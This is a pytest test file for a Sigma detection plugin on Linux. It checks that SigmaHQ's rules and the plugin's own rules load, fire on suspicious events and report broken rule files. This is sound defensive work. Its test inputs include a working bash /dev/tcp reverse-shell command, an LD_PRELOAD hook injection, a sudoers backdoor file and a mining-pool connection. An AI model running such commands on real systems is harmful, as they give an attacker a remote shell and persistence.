"""The Sigma plugin, run in a real worker: SigmaHQ's Linux rules and its own."""

from __future__ import annotations

from pathlib import Path

import pytest
import structlog
import yaml

from agent_host.protocol import Event
from agent_host.testing import connect_event, exec_event, file_event, run_plugin

REPO = Path(__file__).resolve().parents[2]
PLUGIN = REPO / "agent_host" / "plugins" / "sigma"
SHARED = REPO.parent / "shared" / "sigma-linux"
needs_corpus = pytest.mark.skipif(not SHARED.is_dir(), reason="../shared/sigma-linux is absent")


def rule_id(relative: str) -> str:
    return str(yaml.safe_load((SHARED / relative).read_text())["id"])


def own_id(name: str) -> str:
    return str(yaml.safe_load((PLUGIN / "rules" / name).read_text())["id"])


@needs_corpus
class TestSigmaHQCorpus:
    """SigmaHQ's Linux rules load, and fire on the events our field mapping produces."""

    def test_corpus_loads(self) -> None:
        with structlog.testing.capture_logs() as logs:
            run = run_plugin(
                PLUGIN, [], config={"operator_rule_dirs": [str(SHARED)]}, read=[SHARED]
            )
        assert run.state == "stopped"
        assert any(e["event"].startswith("sigma: loading the operator's rules") for e in logs)
        loaded = next(e["event"] for e in logs if e["event"].startswith("sigma rules loaded"))
        total = len(list(SHARED.rglob("*.yml"))) + len(list((PLUGIN / "rules").glob("*.yml")))
        count = int(loaded.split(": ")[1].split(",")[0])
        print(f"{loaded} (of {total} files)")
        rejected = [e["event"] for e in logs if e["event"].startswith("sigma rule not loaded")]
        assert (count, rejected) == (total, [])  # every one of SigmaHQ's Linux rules

    @pytest.mark.parametrize(
        ("event", "rule_file"),
        [
            (
                connect_event("203.0.113.5", 4444),
                "network_connection/net_connection_lnx_susp_malware_callback_port.yml",
            ),
            (
                connect_event("203.0.113.5", 443, hostname="x.tunnel.eu.ngrok.com"),
                "network_connection/net_connection_lnx_ngrok_tunnel.yml",
            ),
            (
                connect_event("203.0.113.5", 443, hostname="abc.localto.net"),
                "network_connection/net_connection_lnx_domain_localtonet_tunnel.yml",
            ),
            (
                connect_event("203.0.113.5", 3333, hostname="pool.supportxmr.com"),
                "network_connection/net_connection_lnx_crypto_mining_indicators.yml",
            ),
            (
                connect_event("203.0.113.9", 443, exe="/bin/bash"),
                "network_connection/net_connection_lnx_back_connect_shell_dev.yml",
            ),
            (file_event("/etc/doas.conf"), "file_event/file_event_lnx_doas_conf_creation.yml"),
            (
                file_event("/etc/sudoers.d/backdoor"),
                "file_event/file_event_lnx_persistence_sudoers_files.yml",
            ),
            (
                file_event("/tmp/x", "MOVED", "/etc/cron.d/job"),
                "file_event/file_event_lnx_susp_cron_file_created.yml",
            ),
            (
                file_event("/etc/profile.d/evil.sh", "MODIFIED"),
                "file_event/file_event_lnx_susp_shell_script_under_profile_directory.yml",
            ),
            (
                file_event("/tmp/rootlog"),
                "file_event/file_event_lnx_triple_cross_rootkit_lock_file.yml",
            ),
        ],
        ids=lambda v: v.split("/")[-1][:-4] if isinstance(v, str) else "",
    )
    def test_network_and_file_rules(self, event: Event, rule_file: str) -> None:
        run = run_plugin(PLUGIN, [event], config={"rule_dirs": [str(SHARED)]}, read=[SHARED])
        assert run.rules() == [rule_id(rule_file)]

    def test_finding_carries_rule_metadata(self) -> None:
        run = run_plugin(
            PLUGIN,
            [connect_event("203.0.113.5", 4444)],
            config={"rule_dirs": [str(SHARED)]},
            read=[SHARED],
        )
        (finding,) = run.findings
        source = yaml.safe_load(
            (
                SHARED / "network_connection" / "net_connection_lnx_susp_malware_callback_port.yml"
            ).read_text()
        )
        assert finding.message == source["title"]
        assert finding.attributes["title"] == source["title"]
        assert finding.attributes["level"] == source["level"]
        assert finding.severity == finding.HIGH if source["level"] == "high" else True
        assert list(finding.techniques) == [
            t.removeprefix("attack.").upper() for t in source["tags"] if t.startswith("attack.t")
        ]
        assert finding.attributes["DestinationPort"] == "4444"
        assert finding.attributes["Initiated"] == "true"

    def test_true_negatives(self) -> None:
        benign = [
            connect_event("10.0.0.7", 4444),  # a local range: filtered by the rule
            connect_event("203.0.113.5", 443, hostname="example.org"),
            file_event("/home/ann/notes.txt"),
            file_event("/etc/sudoers.d", "DELETED"),
            exec_event("/usr/bin/ls", "-la"),
            exec_event("/usr/bin/git", "status", parent="/usr/bin/zsh"),
            exec_event("/usr/bin/python3", "manage.py", "runserver"),
        ]
        run = run_plugin(
            PLUGIN, benign, config={"rule_dirs": [str(SHARED), "rules"]}, read=[SHARED]
        )
        assert run.findings == []


class TestOwnRules:
    """The rules shipped with the plugin."""

    def test_true_positives(self) -> None:
        events = [
            exec_event("/usr/bin/bash", "-c", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"),
            exec_event("/usr/bin/env", "LD_PRELOAD=/tmp/hook.so", "ls"),
            file_event("/etc/ld.so.preload", "MODIFIED"),
        ]
        run = run_plugin(PLUGIN, events)
        assert [run.for_event(i)[0].rule for i in (1, 2, 3)] == [
            own_id("proc_creation_lnx_agent_host_reverse_shell_dev_tcp.yml"),
            own_id("proc_creation_lnx_agent_host_ld_preload_cli.yml"),
            own_id("file_event_lnx_agent_host_ld_so_preload.yml"),
        ]
        assert [len(run.for_event(i)) for i in (1, 2, 3)] == [1, 1, 1]

    def test_true_negatives(self) -> None:
        events = [
            exec_event("/usr/bin/cat", "/etc/ld.so.conf"),
            file_event("/etc/ld.so.conf", "MODIFIED"),
            exec_event("/usr/bin/bash", "-c", "echo tcp"),
        ]
        assert run_plugin(PLUGIN, events).findings == []


class TestBadRules:
    """Each rule that cannot load is reported once, with its file and why; the others load."""

    def test_bad_rules_reported(self, tmp_path: Path) -> None:
        good = (PLUGIN / "rules" / "file_event_lnx_agent_host_ld_so_preload.yml").read_text()
        (tmp_path / "good.yml").write_text(good)
        (tmp_path / "broken_yaml.yml").write_text("title: [unclosed\n")
        (tmp_path / "bad_modifier.yml").write_text(
            good.replace("TargetFilename:", "TargetFilename|nosuchmodifier:")
        )
        (tmp_path / "dns.yml").write_text(
            good.replace("category: file_event", "category: dns_query")
        )
        (tmp_path / "windows.yml").write_text(good.replace("product: linux", "product: windows"))
        tmp_path.chmod(0o755)  # the worker's own user reads it, as an operator's rule folder
        with structlog.testing.capture_logs() as logs:
            run = run_plugin(
                PLUGIN,
                [file_event("/etc/ld.so.preload")],
                config={"rule_dirs": [str(tmp_path)]},
                read=[tmp_path],
            )
        assert len(run.findings) == 1
        reported = {}
        for e in logs:
            if e["event"].startswith("sigma rule not loaded: "):
                path, reason = e["event"].removeprefix("sigma rule not loaded: ").split(": ", 1)
                reported[Path(path).name] = reason
        assert set(reported) == {"broken_yaml.yml", "bad_modifier.yml", "dns.yml", "windows.yml"}
        assert "nosuchmodifier" in reported["bad_modifier.yml"]
        assert reported["dns.yml"].startswith("logsource category 'dns_query'")
        assert reported["windows.yml"] == "product 'windows' is not linux"
        assert any(
            e["event"] == "sigma rules loaded: 1, not loaded: 4, indexed by their literals: 1"
            for e in logs
        )
